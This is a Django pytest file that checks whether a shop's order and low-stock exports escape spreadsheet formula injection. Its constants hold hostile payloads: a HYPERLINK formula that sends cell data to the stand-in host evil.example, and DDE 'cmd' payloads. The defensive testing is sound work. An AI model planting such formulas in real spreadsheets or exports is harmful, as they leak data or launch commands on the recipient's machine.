"""The shop's exports (orders, low-stock report) never hand a spreadsheet a
formula: text cells that start like one are prefixed with a single quote;
numbers stay numbers. Asserted on the exported bytes."""

import csv
import io
import uuid
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from shop.checkout import place_order
from tests.factories import UserFactory, customer_details

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Track parcel")'
COMMAND = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT_SIGN = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def manager_client():
    client = Client()
    client.force_login(UserFactory(username="keeper", groups=["Shop managers"]))
    return client


@pytest.fixture
def hostile_order(make_product):
    lamp = make_product(title="Brass lamp", price=Decimal("30.00"), stock_quantity=9)
    return place_order(
        requested=[(lamp.pk, 2)],
        customer=customer_details(full_name=MINUS, country=HYPERLINK, city=COMMAND),
        shipping_code="standard",
        payment_method="bank_transfer",
        idempotency_key=uuid.uuid4(),
    ).order


def csv_rows(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_orders_csv_escapes_formula_cells_and_keeps_numbers(manager_client, hostile_order):
    response = manager_client.get(reverse("orders:index"), {"export": "csv"})
    raw = b"".join(response.streaming_content)
    # No cell of the file starts with a formula character.
    assert b',"=HYPERLINK' not in raw and b",=HYPERLINK" not in raw
    assert b",-2+3" not in raw
    rows = list(csv.reader(io.StringIO(raw.decode())))
    heading, row = rows[0], next(r for r in rows[1:] if r[0] == hostile_order.number)
    cells = dict(zip(heading, row, strict=True))
    assert cells["Country"] == "'" + HYPERLINK
    assert cells["Full name"] == "'" + MINUS
    assert cells["Total"] == str(hostile_order.total)
    assert cells["Subtotal"] == "60.00"


def test_orders_xlsx_escapes_formula_cells_and_keeps_numbers(manager_client, hostile_order):
    response = manager_client.get(reverse("orders:index"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    row = next(r for r in rows[1:] if r[0] == hostile_order.number)
    cells = dict(zip(rows[0], row, strict=True))
    assert cells["Country"] == "'" + HYPERLINK
    assert cells["Full name"] == "'" + MINUS
    assert cells["Subtotal"] == 60


def test_low_stock_csv_escapes_product_titles(manager_client, make_product, settings):
    settings.SHOP_LOW_STOCK_THRESHOLD = 3
    make_product(title=AT_SIGN, sku="LOW-AT", stock_quantity=0)
    make_product(title="\tTabbed=1+1", sku="LOW-TAB", stock_quantity=1)
    make_product(title="Plain - lamp", sku="LOW-OK", stock_quantity=2)
    rows = csv_rows(manager_client.get(reverse("shop_low_stock"), {"export": "csv"}))
    assert rows[1:] == [
        ["'" + AT_SIGN, "LOW-AT", "0", "10.00"],
        ["'\tTabbed=1+1", "LOW-TAB", "1", "10.00"],
        ["Plain - lamp", "LOW-OK", "2", "10.00"],
    ]
